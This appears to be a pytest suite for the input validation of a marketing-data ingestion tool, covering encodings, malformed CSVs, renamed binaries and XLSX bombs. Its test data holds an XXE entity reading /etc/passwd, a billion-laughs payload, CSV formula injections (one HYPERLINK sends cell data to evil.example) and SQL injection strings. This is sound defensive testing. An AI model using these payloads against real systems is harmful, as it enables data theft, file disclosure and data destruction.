"""Issue 7, "Bad input": every case of the list is its own test, with the expected result.

Each test loads into a private copy of the sample store (real DuckDB, real ingestion path). A rejection
asserts the store is unchanged: `store.table_fingerprint` (row counts and sums of every data table),
a digest of every row's full text, and the schema. A load asserts the stored values against the
values written into the file by the test.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import subprocess
import sys
import textwrap

import pytest
from relkit import GENERIC_HEADER, csv_bytes, replace_part, snapshot_state, xlsx_bytes, zip_bytes

from smm import i18n, readers
from smm.ingest import LoadOptions, ingest_bytes

D = dt.date


@pytest.fixture
def db(sample_con):
    """The sample store (so that "unchanged" is checked against real content)."""
    return sample_con


def load(con, data: bytes, name: str = "export.csv", **opts):
    return ingest_bytes(con, data, name, LoadOptions(today=D(2026, 12, 1), **opts))


def rejected(con, data: bytes, name: str = "export.csv", *, code: str | None = None, **opts):
    """Load, expect a rejection (optionally with error `code`), and check nothing changed."""
    before = snapshot_state(con)
    r = load(con, data, name, **opts)
    assert r.status in ("rejected", "unrecognised"), (r.status, r.errors[:3])
    assert r.rows_loaded == 0 and r.batch_id is None
    assert r.errors, "a rejection must say why"
    if code:
        assert code in {e.get("code") for e in r.errors}, r.errors[:3]
    assert snapshot_state(con) == before, "a rejected file changed the store"
    return r


def loaded(con, data: bytes, name: str = "export.csv", **opts):
    r = load(con, data, name, **opts)
    assert r.status == "loaded", (r.status, r.errors[:3])
    return r


def rows_of(con, batch: int, cols: str = "campaign, kol, spend, impressions, clicks, follows") -> list[tuple]:
    return con.execute(f"SELECT {cols} FROM fact WHERE batch_id = ? ORDER BY src_row", [batch]).fetchall()  # noqa: S608


def row(day: int, campaign: str = "c", spend="100", impressions="1000", clicks="10", kol="k", follows="") -> list:
    return ["weibo", f"2026-03-{day:02d}", campaign, kol, spend, impressions, clicks, follows]


# ------------------------------------------------------------------------------------- encodings


def test_excel_csv_utf8_with_bom_parses_without_bom_in_first_header(db):
    data = b"\xef\xbb\xbf" + csv_bytes([row(2), row(3, spend="50")])
    r = loaded(db, data)
    assert r.headers[0] == "platform"
    assert not any("\ufeff" in h for h in r.headers)
    assert [x[2] for x in rows_of(db, r.batch_id)] == [100.0, 50.0]


def test_gb18030_with_chinese_headers_parses(db):
    header = ["平台", "日期", "计划", "达人", "花费", "曝光", "点击", "涨粉"]
    data = csv_bytes([["微博", "2026-03-02", "春季新品𠀀", "小鹿", "1,200", "5万", "800", "3"]], header,
                     encoding="gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    r = loaded(db, data)
    assert r.headers == header
    assert rows_of(db, r.batch_id) == [("春季新品𠀀", "小鹿", 1200.0, 50000.0, 800.0, 3.0)]
    assert db.execute("SELECT platform FROM fact WHERE batch_id = ?", [r.batch_id]).fetchall() == [("weibo",)]


def test_utf16le_tab_separated_parses(db):
    text = "\t".join(["平台", "日期", "计划", "花费", "曝光", "点击"]) + "\r\n" + \
        "\t".join(["weibo", "2026-03-02", "品牌", "12.5", "300", "7"]) + "\r\n"
    r = loaded(db, b"\xff\xfe" + text.encode("utf-16-le"), "google_ads_unicode.csv")
    assert r.headers[0] == "平台"
    assert db.execute("SELECT campaign, spend, impressions, clicks FROM fact WHERE batch_id = ?",
                      [r.batch_id]).fetchall() == [("品牌", 12.5, 300.0, 7.0)]


def test_invalid_utf8_byte_that_is_not_gb18030_is_rejected_with_its_line(db):
    good = "".join(f"weibo,2026-03-{d:02d},活动é{d},,1,2,1,\n" for d in range(1, 20))
    data = (",".join(["platform", "date", "campaign", "kol", "spend", "impressions", "clicks", "follows"]) + "\n"
            + good).encode("utf-8") + b"weibo,2026-03-21,bad\xff\xfe\x80,,1,2,1,\n"
    r = rejected(db, data, code="encoding")
    assert r.errors[0]["row"] == 21  # header is line 1, 19 good lines, the broken one is line 21


# -------------------------------------------------------------------------------- structure


def test_semicolon_delimited_with_thousands_separators_parses(db):
    data = csv_bytes([row(2, spend="1,000", impressions="12,345,678", clicks="1,234")], delimiter=";")
    r = loaded(db, data)
    assert rows_of(db, r.batch_id)[0][2:5] == (1000.0, 12345678.0, 1234.0)


def test_quoted_newline_and_comma_inside_a_cell_is_one_cell(db):
    data = csv_bytes([row(2, campaign="spring,\n launch \"A\""), row(3, campaign="next")])
    assert b'"spring,\n launch ""A"""' in data
    r = loaded(db, data)
    assert r.rows_loaded == 2
    assert [x[0] for x in rows_of(db, r.batch_id)] == ['spring,\n launch "A"', "next"]


def test_first_quote_after_row_20480_parses_correctly(db):
    rows = [["weibo", f"2026-01-{i % 28 + 1:02d}", f"c{i}", "k", "1", "10", "1", ""] for i in range(20_600)]
    rows[20_500] = ["weibo", "2026-02-01", "late, \"quoted\" cell", "k", "7", "70", "7", ""]
    data = csv_bytes(rows)
    first_quote_line = data[:data.index(b'"')].count(b"\n") + 1
    assert first_quote_line > 20_480
    r = loaded(db, data)
    assert r.rows_loaded == 20_600 and r.rows_rejected == 0
    got = db.execute("SELECT campaign, spend, src_row FROM fact WHERE batch_id = ? AND date = DATE '2026-02-01'",
                     [r.batch_id]).fetchall()
    assert got == [('late, "quoted" cell', 7.0, first_quote_line)]
    assert db.execute("SELECT sum(spend) FROM fact WHERE batch_id = ?", [r.batch_id]).fetchall()[0][0] == 20_599 + 7


def test_row_with_too_few_columns_rejects_the_file_with_a_count(db):
    data = csv_bytes([row(2), row(3)[:5], row(4), row(5)[:6]])
    r = rejected(db, data, code="ragged")
    e = r.errors[0]
    assert e["row"] == 3 and e["count"] == 2
    # the message says how the first such row differs, and how many there are (UI and CLI alike)
    assert i18n.error_text(e, "en", "export.csv") == (
        "export.csv: row 3 has 5 cells where the header has 8 (2 rows like it)")
    assert i18n.error_text(e, "zh", "export.csv") == "export.csv：第 3 行有 5 列，表头有 8 列（这样的行共 2 行）"


def test_row_with_too_many_columns_rejects_the_file(db):
    data = csv_bytes([row(2), row(3) + ["extra"], row(4)])
    r = rejected(db, data, code="ragged")
    assert r.errors[0]["row"] == 3


def test_unclosed_quote_is_rejected(db):
    data = csv_bytes([row(2)]) + b'weibo,2026-03-03,"never closed,,1,2,1,\nweibo,2026-03-04,x,,1,2,1,\n'
    r = rejected(db, data, code="unclosed_quote")
    assert r.errors[0]["row"] == 3


def test_preamble_lines_above_the_header_are_skipped(db):
    pre = b"Campaign report\nAll campaigns\n2026-03-01 - 2026-03-07\n\n"
    r = loaded(db, pre + csv_bytes([row(2), row(3)]))
    assert r.headers[:2] == ["platform", "date"]
    assert r.rows_loaded == 2


def test_total_rows_at_top_and_bottom_are_excluded(db):
    data = csv_bytes([
        ["Total", "", "", "", "1,150", "11000", "110", ""],
        row(2, spend="100"), row(3, spend="1,000", impressions="10000", clicks="100"), row(4, spend="50"),
        ["合计", "", "", "", "1,150", "11000", "110", ""],
    ])
    r = loaded(db, data)
    assert r.rows_summary == 2 and r.rows_loaded == 3
    assert db.execute("SELECT sum(spend), count(*) FROM fact WHERE batch_id = ?", [r.batch_id]).fetchall() == [
        (1150.0, 3)]


def test_duplicate_header_names_are_rejected_not_overwritten(db):
    header = ["platform", "date", "campaign", "spend", "spend", "clicks"]
    r = rejected(db, csv_bytes([["weibo", "2026-03-02", "c", "1", "2", "1"]], header), code="duplicate_header")
    assert r.errors[0]["column"] == "spend"


def test_numeric_column_turning_into_dash_or_na_becomes_null(db):
    rows = [row(d, spend=str(d), impressions="100", clicks="1") for d in range(1, 26)]
    rows += [row(26, spend="-", impressions="-"), row(27, spend="N/A", impressions="N/A"),
             row(28, spend="--", impressions="")]
    r = loaded(db, csv_bytes(rows))
    got = db.execute("SELECT count(*), count(spend), sum(spend), count(impressions) FROM fact WHERE batch_id = ?",
                     [r.batch_id]).fetchall()[0]
    assert got == (28, 25, float(sum(range(1, 26))), 25)


def test_european_decimals_without_a_declared_locale_are_rejected(db):
    r = rejected(db, csv_bytes([row(2, spend="1.234,56")]), code="not_a_number")
    assert r.errors[0]["row"] == 2 and r.errors[0]["column"] == "spend"


def test_european_decimals_with_a_declared_locale_are_accepted(db):
    r = loaded(db, csv_bytes([row(2, spend="1.234,56", impressions="2.000")], delimiter=";"), decimal=",")
    assert rows_of(db, r.batch_id)[0][2:4] == (1234.56, 2000.0)


@pytest.mark.parametrize("text, field, value, flag", [
    ("1.2万", "impressions", 12_000.0, None),
    ("3亿", "impressions", 3e8, None),
    ("10万+", "impressions", 100_000.0, "impressions:lower_bound"),
    ("12.5%", "spend", 0.125, None),
    ("(12.00)", "follows", -12.0, None),
])
def test_chinese_units_percent_and_parentheses(db, text, field, value, flag):
    values = {"spend": "1", "impressions": "100", "follows": "", field: text}
    r = loaded(db, csv_bytes([row(2, spend=values["spend"], impressions=values["impressions"], clicks="1",
                                   follows=values["follows"])]))
    got = db.execute(f"SELECT {field}, flags FROM fact WHERE batch_id = ?", [r.batch_id]).fetchall()  # noqa: S608
    assert got == [(value, flag)]


def test_parentheses_negative_spend_is_rejected(db):
    r = rejected(db, csv_bytes([row(2, spend="(12.00)")]), code="negative")
    assert r.errors[0]["column"] == "spend"


def test_ambiguous_day_month_date_is_rejected_not_guessed(db):
    r = rejected(db, csv_bytes([row(2), ["weibo", "05/03/2026", "c", "", "1", "2", "1", ""]]), code="bad_date")
    assert r.errors[0]["row"] == 3 and r.errors[0]["column"] == "date"


def test_zero_byte_file_is_rejected(db):
    rejected(db, b"", code="no_data_rows")


def test_header_only_file_is_rejected(db):
    rejected(db, csv_bytes([]), code="no_data_rows")


def test_line_over_2mb_is_rejected(db):
    data = csv_bytes([row(2)]) + b"weibo,2026-03-03," + b"x" * (2 * 1024 * 1024 + 1) + b",,1,2,1,\n"
    r = rejected(db, data, code="line_too_long")
    assert r.errors[0]["row"] == 3


# ------------------------------------------------------------------------------ not a table


def test_zip_renamed_csv_is_rejected_by_content(db):
    rejected(db, zip_bytes({"report.csv": csv_bytes([row(2)])}), "report.csv", code="not_tabular")


def test_pdf_renamed_csv_is_rejected_by_content(db):
    rejected(db, b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"\x00" * 64, "report.csv",
             code="not_tabular")


def test_exe_renamed_csv_is_rejected_by_content(db):
    # A Windows PE header: "MZ", DOS stub, binary zeros.
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + \
        b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200
    rejected(db, exe, "report.csv", code="not_tabular")


@pytest.mark.parametrize("name", ["report\x00.csv", "re\x00port.csv.exe", "report.csv:$DATA", "report.csv::$DATA",
                                  "data:$I30.csv"])
def test_file_names_with_null_bytes_or_stream_names_are_rejected(db, name):
    r = rejected(db, csv_bytes([row(2)]), name, code="bad_filename")
    assert "\x00" not in r.errors[0]["message"]


# --------------------------------------------------------------------------------- XLSX attacks

_CHILD = textwrap.dedent("""
    import json, sys
    from smm import store
    from smm.ingest import LoadOptions, ingest_bytes
    con = store.connect(sys.argv[1])
    out = []
    for path in sys.argv[2:]:
        before = store.table_fingerprint(con)
        r = ingest_bytes(con, open(path, "rb").read(), path.rsplit("/", 1)[-1], LoadOptions())
        out.append({"status": r.status, "codes": [e.get("code") for e in r.errors],
                    "unchanged": store.table_fingerprint(con) == before})
    hwm = [ln for ln in open("/proc/self/status") if ln.startswith("VmHWM:")][0].split()[1]  # peak RSS, kB
    print(json.dumps({"results": out, "maxrss_mb": int(hwm) / 1024}))
""")


def _ingest_in_child(tmp_path, files: dict[str, bytes]) -> dict:
    """Ingest files in a fresh process and report its peak memory (the "memory cap" of the issue)."""
    import json

    paths = []
    for name, data in files.items():
        p = tmp_path / name
        p.write_bytes(data)
        paths.append(str(p))
    res = subprocess.run([sys.executable, "-c", _CHILD, str(tmp_path / "child.duckdb"), *paths],
                         capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONUNBUFFERED": "1"})
    assert res.returncode == 0, res.stderr[-3000:]
    return json.loads(res.stdout.strip().splitlines()[-1])


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lolololololololololololololololololololololololololololololololololololololololololol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>platform</t></is></c><c r="B1" t="inlineStr"><is><t>date</t></is></c>
<c r="C1" t="inlineStr"><is><t>campaign</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>weibo</t></is></c><c r="B2" t="inlineStr"><is><t>2026-03-02</t></is></c>
<c r="C2" t="inlineStr"><is><t>&lol9;</t></is></c></row>
</sheetData></worksheet>"""


def _huge_sheet(rows: int) -> bytes:
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    body = b'<row><c t="inlineStr"><is><t>weibo</t></is></c><c><v>1</v></c></row>' * rows
    return head + body + b"</sheetData></worksheet>"


def test_xlsx_entity_expansion_and_zip_bombs_are_rejected_within_a_memory_cap(db, tmp_path):
    base = xlsx_bytes([["platform", "date", "campaign"], ["weibo", "2026-03-02", "c"]])
    lol = replace_part(base, "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
    bomb = replace_part(base, "xl/worksheets/sheet1.xml", _huge_sheet(1_000_000))  # 68 MB of cells → ~0.2 MB
    assert len(bomb) < 300_000
    # In this process: rejected, and the sample store is unchanged.
    rejected(db, lol, "lol.xlsx", code="xml_bomb")
    rejected(db, bomb, "bomb.xlsx", code="too_large")
    # In a fresh process: peak memory stays far below what expansion would take (~1 GB of text for lol9,
    # 68 MB of XML and several hundred MB of cells for the bomb).
    out = _ingest_in_child(tmp_path, {"lol.xlsx": lol, "bomb.xlsx": bomb})
    assert [r["codes"][0] for r in out["results"]] == ["xml_bomb", "too_large"]
    assert all(r["status"] == "rejected" and r["unchanged"] for r in out["results"])
    assert out["maxrss_mb"] < 400, out


def test_xlsx_total_decompressed_size_is_capped(con):
    # Parts that each compress modestly (< 100x) but together exceed the cap: the declared-size check.
    import random

    rnd = random.Random(7)
    text = "".join(rnd.choice("abcdefghij") for _ in range(2_000_000)).encode()
    base = xlsx_bytes([["platform", "date", "campaign"], ["weibo", "2026-03-02", "c"]])
    data = replace_part(base, "docProps/custom.xml", text)
    with pytest.raises(readers.IngestError) as e:
        readers.read_table(con, data, "big.xlsx", table="t_big", max_unzipped=1_500_000)
    assert e.value.code == "too_large"
    assert readers.read_table(con, base, "ok.xlsx", table="t_ok", max_unzipped=1_500_000).n_rows == 1


def test_xlsx_entity_declared_in_shared_strings_is_rejected(db):
    base = xlsx_bytes([["platform", "date", "campaign"], ["weibo", "2026-03-02", "c"]])
    sst = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&e;</t></si></sst>')
    rejected(db, replace_part(base, "xl/sharedStrings.xml", sst), "xxe.xlsx", code="xml_bomb")


def test_xlsx_with_a_damaged_deflate_stream_is_rejected(db):
    # Found by the fuzz run (tests/test_fuzz.py): zlib.error escaped the XLSX checks.
    import zipfile

    data = bytearray(xlsx_bytes([["platform", "date", "campaign"], ["weibo", "2026-03-02", "c"]]))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start] = 0xFF                           # deflate block type 3: "invalid block type"
    rejected(db, bytes(data), "damaged.xlsx", code="excel_unreadable")


def test_xlsx_row_cap(db, con):
    # The row cap of read_table (the zip checks come first, so a legit-looking file hits this one).
    data = xlsx_bytes([["platform", "date", "campaign"]] + [["weibo", "2026-03-02", f"c{i}"] for i in range(30)])
    with pytest.raises(readers.IngestError) as e:
        readers.read_table(con, data, "many.xlsx", table="t_cap", max_rows=20)
    assert e.value.code == "too_large"


# ------------------------------------------------------------------------- formulas and injection


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "-2+3+cmd|' /C calc'!A0"]


def test_formula_cells_are_stored_as_text_and_neutralised_in_exports(db):
    import io

    import openpyxl
    import pandas as pd

    from smm.export import to_csv_bytes, to_xlsx_bytes

    rows = [row(2 + i, campaign=f, kol=f, follows="-12.5") for i, f in enumerate(FORMULAS)]
    r = loaded(db, csv_bytes(rows))
    stored = db.execute("SELECT campaign, kol, follows FROM fact WHERE batch_id = ? ORDER BY src_row",
                        [r.batch_id]).df()
    # Stored as the text of the cell (surrounding whitespace such as the leading tab is trimmed on read).
    assert stored["campaign"].tolist() == [f.strip() for f in FORMULAS]
    assert stored["follows"].tolist() == [-12.5] * len(FORMULAS)

    text = to_csv_bytes(stored).decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    for col in ("campaign", "kol"):
        assert all(v.startswith("'") for v in back[col]), back[col].tolist()
    assert back["follows"].tolist() == ["-12.5"] * len(FORMULAS)  # a real number stays a plain number

    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(stored)))
    ws = wb.active
    cells = list(ws.iter_rows(min_row=2))
    for c_campaign, c_kol, c_follows in cells:
        for c in (c_campaign, c_kol):
            assert c.data_type == "s" and c.value.startswith("'"), (c.value, c.data_type)
        assert c_follows.data_type == "n" and c_follows.value == -12.5


def test_sql_text_in_headers_and_values_changes_nothing_but_its_own_rows(db):
    from smm import queries

    before_schema = snapshot_state(db)[2]
    tables_before = db.execute("SELECT count(*) FROM fact").fetchall()[0][0]
    header = ['x"; DROP TABLE fact;--', *GENERIC_HEADER, "'; DELETE FROM load_batches; --"]
    evil = "' OR 1=1 --"
    r = loaded(db, csv_bytes([[evil, *row(2, campaign=evil, kol='"); DROP TABLE fact; --'), evil]], header))
    assert snapshot_state(db)[2] == before_schema
    assert db.execute("SELECT count(*) FROM fact").fetchall()[0][0] == tables_before + 1
    assert rows_of(db, r.batch_id, "campaign, kol") == [(evil, '"); DROP TABLE fact; --')]
    # Filter values are bound parameters: the injection string matches only rows that literally hold it.
    hit = queries.totals(db, queries.Filters(campaigns=(evil,), currency="CNY"))
    assert hit["spend"] == 100.0
    miss = queries.totals(db, queries.Filters(platforms=(evil,), kols=(evil,), campaigns=(evil,), currency="CNY"))
    assert not miss["spend"]
    assert snapshot_state(db)[2] == before_schema


# ----------------------------------------------------------------------------- double counting


def test_same_weekly_file_twice_is_not_counted_twice(db):
    data = csv_bytes([row(d, spend=str(d)) for d in range(2, 9)])
    first = loaded(db, data, "week10.csv")
    state = snapshot_state(db)
    again = load(db, data, "week10 (1).csv")
    assert again.status == "already_loaded" and again.batch_id == first.batch_id
    assert snapshot_state(db) == state


def test_overlapping_export_replaces_the_overlap_instead_of_adding(db):
    import pandas as pd

    week_a = [row(d, spend=str(10 * d)) for d in range(2, 16)]        # 2–15 March
    week_b = [row(d, spend=str(d + 1000)) for d in range(9, 23)]      # 9–22 March, overlapping 9–15
    base = db.execute("SELECT coalesce(sum(spend), 0), count(*) FROM fact_active").fetchall()[0]
    a = loaded(db, csv_bytes(week_a), "a.csv")
    b = loaded(db, csv_bytes(week_b), "b.csv")
    assert b.rows_superseded == 7
    frame = pd.DataFrame(week_a + week_b, columns=GENERIC_HEADER)
    frame["spend"] = frame["spend"].astype(float)
    expect = frame.drop_duplicates(["platform", "date", "campaign", "kol"], keep="last")["spend"].sum()
    got = db.execute("SELECT sum(spend), count(*) FROM fact_active").fetchall()[0]
    assert got == (base[0] + expect, base[1] + 21)
    assert a.batch_id < b.batch_id


def test_blank_natural_key_field_rejects_the_row(db):
    data = csv_bytes([row(2), ["", "2026-03-03", "c", "k", "1", "2", "1", ""], row(4)])
    r = rejected(db, data, code="missing_key")
    assert r.errors[0]["row"] == 3 and r.errors[0]["column"] == "platform"
    assert r.rows_rejected == 1


def test_blank_kol_in_roster_rejects_the_row_and_load_valid_keeps_only_keyed_rows(db):
    header = ["kol", "platform", "followers", "fee", "posts", "category"]
    data = csv_bytes([["小鹿", "xiaohongshu", "12万", "20000", "2", "beauty"],
                      ["", "xiaohongshu", "1000", "500", "1", "beauty"],
                      ["阿May", "douyin", "3万", "8000", "1", "skincare"]], header)
    r = rejected(db, data, "roster.csv", code="missing_key")
    assert r.errors[0]["row"] == 3
    before = db.execute("SELECT count(*) FROM kol_roster").fetchall()[0][0]
    ok = loaded(db, data, "roster.csv", on_invalid="load_valid")
    assert ok.rows_loaded == 2 and ok.rows_rejected == 1
    assert db.execute("SELECT count(*), count(kol) FROM kol_roster").fetchall()[0] == (before + 2, before + 2)
    assert i18n.t("why.missing_key", "en").encode() in ok.rejected_csv
